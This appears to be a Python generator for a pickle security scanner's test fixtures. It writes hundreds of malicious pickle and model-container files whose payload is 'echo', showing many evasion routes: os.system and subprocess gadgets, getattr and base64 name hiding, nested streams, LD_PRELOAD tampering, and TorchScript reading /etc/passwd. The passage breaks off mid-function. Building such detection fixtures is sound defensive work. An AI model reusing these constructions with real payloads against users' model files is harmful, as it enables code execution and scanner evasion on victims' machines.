#!/usr/bin/env python3
"""Writes malicious/pickles/{bad,good}: attacks on the pickle family by class, and what real libraries write.

Nothing here is ever loaded; the payload of every bad file is `echo`. Needs torch, torchvision, timm, transformers,
numpy, scipy, pandas, scikit-learn, statsmodels, lightgbm, xgboost, joblib, cloudpickle, dill, skops, omegaconf:

    python Tests/Fixtures/make_malicious_pickles.py
"""
import base64, io, os, pickle, shutil, struct, sys, zipfile

from pickle_assembler import build, by, call, dct, g, lst, new, num, p, sg, t, u

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "malicious", "pickles")
BAD = os.path.join(HERE, "bad")
ECHO = u("echo")
SYSTEM = sg("os", "system")
GETATTR = sg("builtins", "getattr")
OS = call(sg("importlib", "import_module"), u("os"))


def bad(name, data):
    with open(os.path.join(BAD, name), "wb") as file:
        file.write(data)


def zipped(members, compression=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.compress_type = compression
            info.external_attr = 0o600 << 16
            info.create_system = 3
            z.writestr(info, data)
    return out.getvalue()


EVIL = p(call(SYSTEM, ECHO), 2)


def callables():
    """One call of each gadget: what runs commands, text, other pickles, the network, files, libraries."""
    names = """
    os.popen os.execv os.spawnl os.posix_spawn os.remove os.putenv os.startfile posix.popen nt.system posix.fork
    subprocess.check_output subprocess.getoutput subprocess.call _posixsubprocess.fork_exec commands.getoutput
    pty.spawn popen2.popen2 platform.popen _osx_support._read_output _aix_support._read_cmd_output
    _pyrepl.pager.pipe_pager test.support.script_helper.assert_python_ok uuid._popen imaplib.IMAP4_stream
    multiprocessing.Process multiprocessing.context.Process multiprocessing.util.spawnv_passfds
    concurrent.futures.ThreadPoolExecutor threading.Thread threading.Timer _thread.start_new_thread
    thread.start_new_thread sched.scheduler asyncio.run asyncio.create_subprocess_exec
    asyncio.unix_events._UnixSubprocessTransport._start contextlib.ExitStack.callback weakref.finalize
    atexit.register signal.signal sys.settrace sys.setprofile sys.addaudithook sys.exit sys.path.insert
    site.addsitedir gc.get_objects builtins.breakpoint builtins.input builtins.help builtins.exit builtins.delattr
    __builtin__.execfile __builtin__.apply __builtin__.input __builtin__.raw_input __builtin__.reload
    code.InteractiveInterpreter.runcode codeop.compile_command runpy._run_code runpy.run_module timeit.repeat
    cProfile.runctx profile.Profile.run profile.run trace.Trace.run trace.Trace.runctx doctest.debug_script
    pdb.Pdb bdb.Bdb.runeval unittest.mock._importer unittest.mock.patch ensurepip._run_pip venv.create
    pip._internal.main pip.main distutils.spawn.spawn distutils.file_util.write_file setuptools.sandbox.run_setup
    idlelib.pyshell.ModifiedInterpreter.runcommand idlelib.run.Executive.runcode
    idlelib.calltip.get_entity idlelib.autocomplete.AutoComplete.get_entity idlelib.debugobj.ObjectTreeItem.SetText
    lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label
    logging.config.dictConfig logging.config.listen logging.FileHandler logging.handlers.SocketHandler
    wsgiref.simple_server.make_server xmlrpc.server.SimpleXMLRPCServer xmlrpc.client.ServerProxy
    dataclasses.make_dataclass typing.get_type_hints typing.ForwardRef._evaluate re.Scanner random._test_generator
    functools.update_wrapper cgitb.hook pydoc.render_doc pydoc.pipepager pydoc.safeimport
    numpy.testing._private.utils.runstring numpy.testing.rundocs numpy.f2py.crackfortran.getlincoef
    numpy.f2py.compile numpy.distutils.exec_command.exec_command numpy.lib.utils.safe_eval numpy.load numpy.fromfile
    numpy.memmap numpy.ctypeslib.load_library numpy.apply_along_axis numpy.frompyfunc numpy.savetxt numpy.loadtxt
    torch.load torch.hub.load torch.hub.download_url_to_file torch.jit.load torch.jit.unsupported_tensor_ops.execWrapper
    torch.utils._config_module.ConfigModule.load_config torch.utils.bottleneck.__main__.run_cprofile
    torch.utils.collect_env.run torch.utils.collect_env.run_and_read_all torch.utils.cpp_extension.load_inline
    torch._inductor.codecache.compile_file torch._dynamo.guards.GuardBuilder.get torch.compile
    torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.fx.graph_module.reduce_graph_module
    torch.utils.data.datapipes.utils.decoder.basichandlers torch.package.PackageImporter torch.ops.load_library
    torch.classes.load_library torch.distributed.rpc.rpc_sync torch.serialization.add_safe_globals
    torch.multiprocessing.spawn torch.nn.modules.module.register_module_forward_hook torch.storage.UntypedStorage.from_file
    torch.utils.tensorboard.SummaryWriter torch.from_file torch.save torch.set_default_dtype
    torch.distributed.launch.main torch.utils.model_zoo.load_url torch.jit.annotations.parse_type_line
    torchvision.datasets.MNIST torchvision.models.resnet18 torchvision.io.read_image timm.create_model
    transformers.AutoModel.from_pretrained transformers.pipeline transformers.dynamic_module_utils.get_class_from_dynamic_module
    transformers.utils.import_utils._LazyModule datasets.load.load_dataset huggingface_hub.hf_hub_download
    tensorflow.keras.models.load_model tensorflow.load_op_library tensorflow.io.read_file tensorflow.raw_ops.WriteFile
    tensorflow.py_function keras.models.load_model keras.layers.Lambda keras.utils.get_file keras.saving.deserialize_keras_object
    pandas.read_pickle pandas.eval pandas.read_csv pandas.DataFrame.query pandas.core.frame.DataFrame.eval pandas.ExcelFile
    pandas.io.common.get_handle scipy.io.loadmat scipy.optimize.minimize sklearn.datasets.fetch_openml
    sklearn.utils._testing.check_subprocess_call xgboost.Booster.load_model joblib.load joblib.Parallel joblib.Memory
    dill.loads dill.load_session cloudpickle.loads jsonpickle.decode yaml.unsafe_load yaml.load marshal.loads
    shelve.open dbm.open pickle.Unpickler pickle.load _pickle.loads cPickle.loads sqlite3.connect
    sqlite3.Connection.load_extension numexpr.evaluate sympy.sympify sympy.parsing.sympy_parser.parse_expr
    ctypes.CDLL ctypes.cdll.LoadLibrary _ctypes.dlopen ctypes.util.find_library cffi.FFI _cffi_backend.load_library
    importlib.reload importlib.machinery.SourceFileLoader importlib.util.spec_from_file_location imp.load_source
    zipimport.zipimporter pkgutil.get_data pkgutil.resolve_name _imp.create_dynamic _frozen_importlib._gcd_import
    builtins.__import__ builtins.globals builtins.vars builtins.compile builtins.__build_class__ builtins.memoryview.release
    types.CodeType types.FunctionType types.ModuleType new.function _testcapi.run_in_subinterp _xxsubinterpreters.run_string
    socket.socket socket.create_connection ssl.get_server_certificate http.client.HTTPSConnection httplib.HTTPConnection
    urllib.request.urlopen urllib.urlopen urllib2.urlopen requests.get requests.api.post aiohttp.client.ClientSession httpx.get
    urllib3.PoolManager ftplib.FTP smtplib.SMTP telnetlib.Telnet poplib.POP3 nntplib.NNTP webbrowser.open_new antigravity.geohash
    paramiko.SSHClient boto3.client fsspec.open smart_open.open wget.download gdown.download pexpect.run invoke.run
    shutil.rmtree shutil.copyfile tempfile.mktemp tempfile.NamedTemporaryFile glob.glob fileinput.input linecache.getlines
    filecmp.cmp tarfile.open zipfile.ZipFile gzip.open bz2.open io.open io.FileIO _io.open codecs.open builtins.open
    pathlib.Path.write_text pathlib.Path.unlink pathlib.Path.rename os.path.expanduser mmap.mmap netrc.netrc
    IPython.core.interactiveshell.InteractiveShell.run_cell jinja2.Template mako.template.Template
    langchain.chains.load_chain gensim.utils.unpickle nltk.data.load hydra.utils.instantiate detectron2.utils.registry.locate
    werkzeug.utils.import_string twisted.python.reflect.namedAny django.utils.module_loading.import_string
    evilpackage.tools.run evilpackage.Runner _evil.call xml.etree.ElementTree.parse faulthandler._sigsegv resource.setrlimit
    """.split()
    for name in names:
        module, _, attribute = name.rpartition(".")
        parts = name.split(".")
        # A class in the path makes the name dotted: module up to the first capital.
        for index in range(1, len(parts) - 1):
            if parts[index].lstrip("_")[:1].isupper():
                module, attribute = ".".join(parts[:index]), ".".join(parts[index:])
                break
        bad(f"call_{name}.pkl", p(call(sg(module, attribute), ECHO)))


def routes():
    """Ways to make a call happen."""
    partial, mapping, listing = sg("functools", "partial"), sg("builtins", "map"), sg("builtins", "list")
    held = sg("argparse", "Namespace") + b")\x81"
    bad("obj_p1.pkl", b"(" + g("subprocess", "Popen") + b"(S'echo'\nloI0\n0.")
    bad("inst_popen.pkl", b"(S'echo'\nisubprocess\nPopen\n.")
    bad("newobj_ex_keywords.pkl", p(sg("subprocess", "Popen") + b")" + dct(args=ECHO) + b"\x92"))
    bad("build_slots_state.pkl", p(build(held, t(b"N", dct(__setstate__=SYSTEM))) + ECHO + b"b"))
    bad("build_state_of_pairs.pkl", p(build(held, call(sg("builtins", "dict"), lst(t(u("__setstate__"), SYSTEM)))) + ECHO + b"b"))
    bad("build_state_ordered.pkl", p(build(held, call(sg("collections", "OrderedDict")) + b"(" + u("__setstate__") + SYSTEM + b"u") + ECHO + b"b"))
    bad("build_extend.pkl", p(build(held, dct(extend=SYSTEM)) + b"(" + ECHO + b"e"))
    bad("build_add.pkl", p(build(held, dct(add=SYSTEM)) + b"(" + ECHO + b"\x90"))
    bad("build_unknown_hook.pkl", p(build(held, dct(append=sg("evilpackage", "run"))) + ECHO + b"a"))
    bad("build_on_module_class.pkl", p(build(sg("torch.nn", "Module"), dct(__call__=SYSTEM))))
    bad("build_on_unknown_class.pkl", p(build(sg("mypackage", "Model"), dct(__call__=sg("mypackage", "other")))))
    bad("partial_keywords.pkl", p(call(build(call(partial, sg("builtins", "sorted")), t(sg("builtins", "sorted"), t(lst(ECHO)), dct(key=SYSTEM), b"N")))))
    bad("sorted_key.pkl", p(sg("builtins", "sorted") + t(lst(ECHO)) + dct(key=SYSTEM) + b"\x92"))
    bad("max_key_socket.pkl", p(call(call(partial, sg("builtins", "max"), lst(ECHO, ECHO), sg("socket", "gethostbyname")))))
    bad("iter_sentinel.pkl", p(call(listing, call(sg("builtins", "iter"), call(partial, SYSTEM, ECHO), b"K\x00"))))
    bad("map_lazy_any.pkl", p(call(sg("builtins", "any"), call(mapping, sg("socket", "gethostbyname"), lst(ECHO)))))
    bad("map_lazy_bytes.pkl", p(call(sg("builtins", "bytes"), call(mapping, SYSTEM, lst(ECHO)))))
    bad("map_lazy_deque.pkl", p(call(sg("collections", "deque"), call(mapping, sg("builtins", "open"), lst(ECHO)))))
    bad("map_unknown.pkl", p(call(sg("builtins", "set"), call(mapping, sg("evilpackage", "run"), lst(ECHO)))))
    bad("map_call_filled_later.pkl", p(b"]\x94" + call(mapping, sg("operator", "call"), b"h\x00") + b"0h\x00(" + SYSTEM + b"e"))
    bad("itertools_imap.pkl", p(call(g("__builtin__", "list"), call(g("itertools", "imap"), g("socket", "gethostbyname"), lst(ECHO))), 2))
    bad("starmap_many.pkl", p(call(listing, call(sg("itertools", "starmap"), sg("operator", "call"), lst(*[t(sg("builtins", "print"))] * 40, t(sg("builtins", "open"), ECHO))))))
    bad("reduce_long_chain.pkl", p(call(sg("functools", "reduce"), GETATTR, lst(sg("torch", "nn"), *[u("functional")] * 3, *[u("torch")] * 9, u("os"), u("system")))))
    bad("accumulate.pkl", p(call(listing, call(sg("itertools", "accumulate"), lst(ECHO, ECHO), sg("socket", "bind")))))
    bad("groupby.pkl", p(call(listing, call(sg("itertools", "groupby"), lst(ECHO), sg("os", "system")))))
    bad("nlargest_key.pkl", p(call(sg("heapq", "nlargest"), b"K\x01", lst(ECHO), sg("socket", "gethostbyname"))))
    bad("re_sub_function.pkl", p(call(sg("re", "sub"), u("."), SYSTEM, ECHO)))
    bad("json_hook.pkl", p(call(sg("json", "loads"), u("{}"), b"N", sg("builtins", "eval"))))
    bad("defaultdict_network.pkl", p(call(sg("collections", "defaultdict"), call(partial, sg("urllib.request", "urlopen"), ECHO))))
    bad("weakref_callback.pkl", p(call(sg("weakref", "ref"), held, SYSTEM)))
    bad("method_type.pkl", p(call(call(sg("types", "MethodType"), SYSTEM, ECHO))))
    bad("classmethod_walk.pkl", p(call(call(GETATTR, call(sg("builtins", "classmethod"), SYSTEM), u("__func__")), ECHO)))
    bad("type_with_del.pkl", p(call(call(sg("builtins", "type"), u("A"), t(sg("builtins", "object")), dct(__del__=SYSTEM)))))
    bad("type_of_three.pkl", p(call(sg("builtins", "type"), u("A"), t(sg("builtins", "object")), b"}")))
    bad("reconstructor_base.pkl", p(call(g("copy_reg", "_reconstructor"), g("mypackage", "A"), g("evilpackage", "Base"), ECHO), 2))
    bad("newobj_ex_copyreg.pkl", p(call(sg("copyreg", "__newobj_ex__"), sg("subprocess", "Popen"), t(ECHO), b"}")))
    bad("getitem_of_list.pkl", p(call(call(sg("operator", "getitem"), lst(sg("builtins", "print"), sg("socket", "gethostbyname")), b"K\x01"), ECHO)))
    bad("itemgetter_of_list.pkl", p(call(call(call(sg("operator", "itemgetter"), b"K\x01"), lst(sg("builtins", "len"), sg("socket", "gethostbyname"))), ECHO)))
    bad("next_of_list.pkl", p(call(call(sg("builtins", "next"), call(sg("builtins", "iter"), lst(sg("socket", "gethostbyname")))), ECHO)))
    bad("list_pop.pkl", p(call(call(call(GETATTR, lst(sg("socket", "gethostbyname")), u("pop"))), ECHO)))
    bad("long_list_item.pkl", p(call(call(sg("operator", "getitem"), lst(*[b"K\x00"] * 300, sg("socket", "gethostbyname")), num(300)), ECHO)))
    bad("call_an_object.pkl", p(call(build(new(sg("torch.nn.modules.module", "Module")), dct(_forward_hooks=dct(a=sg("mypackage", "hook")))), ECHO)))
    bad("persistent_callee.pkl", p(call(u("callable") + b"Q", ECHO)))
    bad("unknown_hidden_behind_twenty.pkl", p(b"".join(call(sg("__main__", f"A{i}")) + b"0" for i in range(30)) + call(sg("evilpackage", "run"), ECHO)))
    bad("operator_dunder_call.pkl", p(call(sg("_operator", "__call__"), sg("socket", "gethostbyname"), ECHO)))
    bad("operator_dunder_setitem.pkl", p(call(sg("operator", "__setitem__"), sg("mypackage", "TABLE"), u("x"), b"N")))
    bad("getattr_default.pkl", p(call(call(GETATTR, sg("builtins", "dict"), u("none"), sg("socket", "gethostbyname")), ECHO)))
    bad("defaultdict_unknown.pkl", p(call(sg("operator", "getitem"), call(sg("collections", "defaultdict"), sg("evilpackage", "run")), u("x"))))
    bad("metaclass.pkl", p(call(call(sg("abc", "ABCMeta"), u("A"), t(sg("builtins", "object")), dct(__del__=sg("socket", "socket"))))))
    bad("computed_arguments.pkl", p(call(GETATTR + call(sg("builtins", "tuple"), lst(sg("shutil", "os"), u("system"))) + b"R", ECHO)))
    bad("module_forward.pkl", p(build(new(sg("torch.nn.modules.linear", "Linear")), dct(forward=sg("urllib.request", "urlopen")))))
    bad("function_transformer.pkl", p(build(new(sg("sklearn.preprocessing._function_transformer", "FunctionTransformer")), dct(func=sg("builtins", "open")))))
    bad("deep_helpers.pkl", p(nested_partial(20)))


def nested_partial(depth):
    callee = SYSTEM
    for _ in range(depth):
        callee = call(sg("functools", "partial"), callee, ECHO)
    return call(callee)


def walks():
    """Ways to reach a name other than naming it."""
    attrgetter, methodcaller = sg("operator", "attrgetter"), sg("operator", "methodcaller")
    bad("underscore_operator.pkl", p(call(call(call(sg("_operator", "attrgetter"), u("system")), call(sg("builtins", "__import__"), u("os"))), ECHO)))
    bad("attrgetter_dotted.pkl", p(call(call(call(attrgetter, u("os.system")), sg("torch", "serialization")), ECHO)))
    bad("methodcaller_network.pkl", p(call(call(methodcaller, u("urlopen"), ECHO), call(sg("importlib", "import_module"), u("urllib.request")))))
    bad("getattr_chain.pkl", p(call(call(GETATTR, call(GETATTR, sg("torch", "hub"), u("os")), u("system")), ECHO)))
    bad("getattr_split_name.pkl", p(call(call(GETATTR, sg("shutil", "os"), call(sg("operator", "add"), u("sys"), u("tem"))), ECHO)))
    bad("getattr_format_name.pkl", p(call(call(GETATTR, sg("mypackage", "tools"), call(call(GETATTR, u("{}{}"), u("format")), u("sys"), u("tem"))), ECHO)))
    bad("getattr_base64_name.pkl", p(call(call(GETATTR, sg("mypackage", "tools"), call(sg("base64", "b64decode"), u("c3lzdGVt"))), ECHO)))
    bad("dict_get_modules.pkl", p(call(call(GETATTR, call(call(GETATTR, sg("sys", "modules"), u("get")), u("os")), u("system")), ECHO)))
    bad("vars_of_module.pkl", p(call(call(sg("operator", "getitem"), call(sg("builtins", "vars"), OS), u("system")), ECHO)))
    bad("dunder_dict.pkl", p(call(call(sg("operator", "getitem"), call(GETATTR, sg("mypackage", "x"), u("__builtins__")), u("eval")), ECHO)))
    bad("globals_of_function.pkl", p(call(call(sg("operator", "getitem"), sg("json", "loads.__globals__"), u("os")), ECHO)))
    bad("subclasses_walk.pkl", p(call(sg("builtins", "list"), call(call(GETATTR, sg("builtins", "type"), u("__subclasses__")), sg("builtins", "object")))))
    bad("mro_walk.pkl", p(call(call(GETATTR, call(GETATTR, b")", u("__class__")), u("__base__")))))
    bad("code_of_function.pkl", p(call(GETATTR, sg("json", "loads"), u("__code__"))))
    bad("main_builtins.pkl", p(call(sg("__main__", "__builtins__.eval"), ECHO)))
    for module, name in [
        ("torch.utils.data.dataloader", "os.system"), ("torch.nn.functional", "torch.hub.load"), ("numpy", "sys.modules"), ("pathlib", "os.remove"),
        ("sklearn.utils.fixes", "platform.popen"), ("pandas.io.common", "os.system"), ("transformers.utils.hub", "subprocess.run"),
        ("transformers.trainer", "shutil.rmtree"), ("timm.models._hub", "torch.load"), ("sklearn.base", "copy.os.system"), ("collections", "_sys.exit"),
        ("random", "_os.popen"), ("posixpath", "os.system"), ("ntpath", "os.system"), ("tokenize", "_builtin_open"), ("tarfile", "bltn_open"),
        ("pytorch_lightning.utilities.cloud_io", "torch.load"), ("sklearn.utils.parallel", "ThreadPoolExecutor"), ("transformers.modeling_utils", "ThreadPoolExecutor"),
        ("somelib.runner", "Popen"), ("torch.nn.modules.module", "Unpickler"), ("scipy._lib.doccer", "sys.exit"), ("cmd", "sys.modules"), ("dataclasses", "_create_fn"),
        ("ultralytics.utils", "subprocess.Popen"), ("lightgbm.basic", "ctypes.CDLL"), ("xgboost.core", "ctypes.cdll.LoadLibrary"), ("numpy.core._internal", "_ctypes"),
        ("matplotlib.animation", "subprocess.Popen"), ("joblib.externals.loky.backend.spawn", "runpy.run_path"), ("http.server", "os.popen"), ("logging", "os.popen"),
    ]:
        bad(f"walk_{module}_{name}.pkl", p(call(sg(module, name), ECHO)))
    bad("walk_global_p2.pkl", p(call(g("torch.hub", "os.system"), ECHO), 2))
    bad("stack_global_bytes.pkl", p(by(b"os") + by(b"system") + b"\x93" + t(ECHO) + b"R"))
    bad("stack_global_list_item.pkl", p(call(sg("operator", "getitem"), lst(u("os")), b"K\x00") + u("system") + b"\x93" + t(ECHO) + b"R"))
    bad("stack_global_missing_memo.pkl", p(u("os") + b"\x94" + u("system") + b"\x94" + b"0" + b"0h\x00h\x01\x93" + t(ECHO) + b"Rh\x63"))
    bad("stack_global_tuple.pkl", p(t(u("os"), u("path")) + u("system") + b"\x93" + t(ECHO) + b"R"))


def tampering():
    """Changes to the interpreter."""
    modules = sg("sys", "modules")
    bad("sys_path_append.pkl", p(sg("sys", "path") + u("/tmp/x") + b"a"))
    bad("sys_meta_path.pkl", p(sg("sys", "meta_path") + b"(" + sg("mypackage", "Finder") + b"e"))
    bad("environ_set.pkl", p(sg("os", "environ") + u("LD_PRELOAD") + u("/tmp/x.so") + b"s"))
    bad("registry_set.pkl", p(sg("mypackage.registry", "TABLE") + u("x") + sg("mypackage.other", "run") + b"s"))
    bad("dispatch_table.pkl", p(sg("copyreg", "dispatch_table") + sg("builtins", "dict") + sg("mypackage", "reduce") + b"s"))
    bad("builtins_dict.pkl", p(sg("builtins", "__dict__") + u("len") + sg("builtins", "print") + b"s"))
    bad("modules_setitem.pkl", p(call(sg("operator", "setitem"), modules, u("json"), sg("builtins", "print"))))
    bad("modules_update.pkl", p(call(call(GETATTR, modules, u("update")), dct(json=sg("builtins", "print")))))
    bad("modules_walked.pkl", p(call(GETATTR, call(sg("importlib", "import_module"), u("sys")), u("modules")) + u("json") + b"Ns"))
    bad("vars_set.pkl", p(call(sg("builtins", "vars"), sg("mypackage", "module")) + u("x") + sg("builtins", "print") + b"s"))
    bad("setattr_on_class.pkl", p(call(sg("builtins", "setattr"), sg("torch.nn", "Module"), u("__call__"), sg("mypackage", "f"))))
    bad("type_setattr.pkl", p(call(sg("builtins", "type.__setattr__"), sg("torch.nn", "Module"), u("__call__"), b"N")))
    bad("update_wrapper.pkl", p(call(sg("functools", "update_wrapper"), sg("torch", "nn"), sg("mypackage", "f"), t(u("Module")), b")")))
    bad("excepthook.pkl", p(call(sg("builtins", "setattr"), call(sg("importlib", "import_module"), u("sys")), u("excepthook"), sg("mypackage", "f"))))
    bad("copyreg_extension.pkl", p(call(sg("copyreg", "add_extension"), u("os"), u("system"), b"K\x01") + b"0\x82\x01" + t(ECHO) + b"R"))
    bad("ext2.pkl", p(b"\x83\x01\x00" + t(ECHO) + b"R"))
    bad("ext4.pkl", p(b"\x84\x01\x00\x00\x00" + t(ECHO) + b"R"))
    bad("module_build.pkl", p(build(call(sg("importlib", "import_module"), u("json")), dct(loads=sg("mypackage", "f")))))


def streams():
    """Malformed, hidden, doubled and nested streams."""
    inner = p(call(SYSTEM, ECHO))
    plain = pickle.dumps({"a": [1, 2]}, 4)
    bad("missing_memo_before_call.pkl", p(b"h\x630" + call(SYSTEM, ECHO)))
    bad("bad_number_before_call.pkl", b"\x80\x02Iabc\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("bad_string_before_call.pkl", b"\x80\x02Sabc\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("underflow_after_call.pkl", p(call(SYSTEM, ECHO) + b"000000"))
    bad("bad_opcode_after_call.pkl", b"\x80\x04" + call(SYSTEM, ECHO) + b"\x00\x01")
    bad("no_stop.pkl", b"\x80\x04" + call(SYSTEM, ECHO))
    bad("memo_missing_after_call.pkl", p(call(SYSTEM, ECHO) + b"h\x50"))
    bad("frame_lies.pkl", b"\x80\x04\x95\x02" + bytes(7) + call(SYSTEM, ECHO) + b".")
    bad("frame_too_long.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + call(SYSTEM, ECHO) + b".")
    bad("protocol_9.pkl", b"\x80\x09" + call(SYSTEM, ECHO) + b".")
    bad("protocol_lie.pkl", b"\x80\x00" + call(SYSTEM, ECHO) + b".")
    bad("int_underscore.pkl", b"I1_0\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("long_with_zero.pkl", b"L5\0junk\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("float_with_zero.pkl", b"F1\0junk\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("get_with_zero.pkl", b"cos\nsystem\np7\n0g7\0junk\n(S'echo'\ntR.")
    bad("text_protocol_spaces.pkl", b"(lp0\n" + call(g("posix", "system"), b"V echo\n") + b"a.")
    bad("global_not_utf8.pkl", b"c\xff\xfe\nx\n0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("third_stream.pickle", plain + plain + inner)
    bad("second_stream_cut.pickle", plain + b"\x80\x02" + call(g("os", "system"), ECHO))
    bad("nested_bytearray.pkl", p(b"\x96" + struct.pack("<Q", len(inner)) + inner))
    bad("nested_text.pkl", p(u("cos\nsystem\n(S'echo'\ntR.")))
    bad("loads_literal.pkl", p(call(sg("pickle", "loads"), by(inner))))
    bad("loads_base64.pkl", p(call(sg("pickle", "loads"), call(sg("base64", "b64decode"), by(base64.b64encode(inner))))))
    bad("load_from_computed_bytes.pkl", p(call(sg("torch.storage", "_load_from_bytes"), call(sg("zlib", "decompress"), by(b"x")))))
    bad("load_from_base64_bytes.pkl", p(call(sg("torch.storage", "_load_from_bytes"), call(sg("base64", "b64decode"), by(base64.b64encode(inner))))))
    tensor = call(sg("torch.storage", "_load_from_bytes"), by(pickle.dumps({"a": 1}, 2))) + b"0"
    bad("load_from_bytes_behind_hundred.pkl", p(tensor * 100 + call(sg("torch.storage", "_load_from_bytes"), by(inner))))
    bad("load_from_latin1.pkl", p(call(sg("torch.storage", "_load_from_bytes"), call(g("_codecs", "encode"), u(inner.decode("latin1")), u("latin1"))), 2))
    bad("magic_gguf.gguf", b"GGUF" + bytes(4) + b"?"[:0] + b"\x00" + b"0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("magic_tflite.tflite", b"\x80\x02U\x04TFL30" + call(g("os", "system"), ECHO) + b".")
    bad("magic_tar.tar", b"\x80\x02B" + struct.pack("<I", 300) + bytes(250) + b"ustar\0" + bytes(44) + b"0" + call(g("os", "system"), ECHO) + b".")
    bad("picture.jpg", inner)
    bad("notes.txt", b"cos\nsystem\n(S'echo'\ntR.")
    bad("model.onnx", inner)
    bad("pow_bomb.pkl", p(call(sg("builtins", "pow"), num(10), num(1 << 30))))
    bad("repeat_bomb.pkl", p(call(sg("operator", "mul"), u("x"), b"\x8a\x06" + (1 << 40).to_bytes(6, "little"))))
    bad("code_names.pkl", p(stored_function("system")))
    bad("cloudpickle_subimport.pkl", p(call(sg("cloudpickle.cloudpickle", "_function_setstate"), stored_function("x"), t(b"}", dct(__globals__=dct(os=call(sg("cloudpickle.cloudpickle", "subimport"), u("subprocess"))))))))
    bad("dill_create_code_called.pkl", p(call(call(sg("dill._dill", "_create_function"), call(sg("dill._dill", "_create_code"), b"K\x00"), b"}"))))
    bad("sympy_text.pkl", p(call(sg("sympy.core.add", "Add"), u("__import__('os').system('echo')"))))


def stored_function(name):
    cp = "cloudpickle.cloudpickle"
    code = call(call(sg(cp, "_builtin_type"), u("CodeType")), *[b"K\x00"] * 6, by(b"N"), t(b"N"), t(u("os"), u(name)), t(u("x")), u("f.py"), u("f"), u("f"), b"K\x01", by(b""), by(b""), b")", b")")
    return call(sg(cp, "_make_function"), code, b"}", b"N", b"N", b"N")


def containers():
    """PyTorch, NumPy and joblib files around the same pickles."""
    plain = pickle.dumps({"a": 1}, 2)
    bad("torch_zip_byteorder.pt", zipped([("archive/data.pkl", plain), ("archive/byteorder", EVIL), ("archive/version", b"3\n")]))
    bad("torch_zip_picture.pt", zipped([("archive/data.pkl", plain), ("archive/extra/logo.png", EVIL), ("archive/version", b"3\n")]))
    bad("torch_zip_constants.pt", zipped([("m/data.pkl", plain), ("m/constants.pkl", EVIL), ("m/code/__torch__.py", b"pass\n"), ("m/version", b"3\n")]))
    bad("torch_zip_data_folder.pt", zipped([("archive/data.pkl", plain), ("archive/data/extra.pkl", b"cos\nsystem\n(S'echo'\ntR."), ("archive/version", b"3\n")]))
    bad("torch_zip_upper.pt", zipped([("archive/DATA.PKL", EVIL), ("archive/version", b"3\n")]))
    bad("torch_zip_persistent.pt", zipped([("archive/data.pkl", p(u("loader") + b"Q", 2)), ("archive/version", b"3\n")]))
    for name, code in [
        ("from_file", b'  x = torch.from_file("/etc/passwd", False, 4)\n'), ("aten_from_file", b'  x = ops.aten.from_file("/x", None, 0)\n'),
        ("load_library", b'  ops.load_library("/tmp/x.so")\n'), ("save", b'  torch.save(x, "/tmp/x")\n'), ("read_file", b'  y = ops.image.read_file("/etc/passwd")\n'),
        ("spaced", b'  torch . save (x, "/tmp/x")\n'), ("python_op", b"  y = ^PythonOp(x)\n"),
    ]:
        bad(f"torchscript_{name}.pt", zipped([("m/data.pkl", plain), ("m/constants.pkl", pickle.dumps((), 2)), ("m/code/__torch__.py", b"def forward(self, x):\n" + code + b"  return x\n"), ("m/version", b"3\n")]))
    package = [("p/.data/version", b"6\n"), ("p/.data/extern_modules", b"os\ntorch\n"), ("p/model/m.pkl", plain)]
    bad("package_os_system.pt", zipped(package + [("p/mymod.py", b"import os\nos.system('echo')\n")]))
    bad("package_alias.pt", zipped(package + [("p/mymod/__init__.py", b"from subprocess import run as go\ngo(['echo'])\n")]))
    bad("package_exec.pt", zipped(package + [("p/mymod.py", b"exec(compile('1', 'x', 'exec'))\n")]))
    bad("package_socket.pt", zipped(package + [("p/mymod.py", b"import torch\n\nclass A:\n  def f(self):\n    import socket\n    return socket.create_connection(('127.0.0.1', 9))\n")]))
    storage = t(u("storage"), g("torch", "FloatStorage"), u("0"), u("cpu"), num(4000)) + b"Q"
    view = p(call(g("torch._utils", "_rebuild_tensor_v2"), storage, b"K\x00", t(num(4000)), t(b"K\x01"), b"\x89", call(g("collections", "OrderedDict"))), 2)
    bad("storage_too_small.pt", zipped([("archive/data.pkl", view), ("archive/data/0", bytes(16)), ("archive/version", b"3\n")]))
    serialized = base64.b64encode(p(call(SYSTEM, ECHO))).decode() + "\\n"
    data = '{"policy_class": {":type:": "<class>", ":serialized:": "' + serialized + '"}, "n_envs": 1}'
    bad("stable_baselines.zip", zipped([("data", data.encode()), ("policy.pth", plain), ("_stable_baselines3_version", b"2.3.0")], zipfile.ZIP_DEFLATED))
    tar = io.BytesIO()
    import tarfile

    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in [("sys_info", pickle.dumps({}, 2)), ("storages", EVIL), ("pickle", plain), ("tensors", pickle.dumps(0, 2))]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    bad("tar_storages.tar", tar.getvalue()[:5120])
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    bad("legacy_sysinfo.pt", magic + pickle.dumps(1001, 2) + EVIL + pickle.dumps({}, 2) + pickle.dumps([], 2))
    bad("legacy_keys.pt", magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps({}, 2) + EVIL)
    bad("legacy_eval_magic.pt", p(call(g("__builtin__", "eval"), u("0x1950A86A20F9469CFC6C")), 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2))
    header = b"{'descr': [('a', '|O'), ('b', '<f4')], 'fortran_order': False, 'shape': (1,), }"
    header += b" " * ((64 - (10 + len(header) + 1) % 64) % 64) + b"\n"
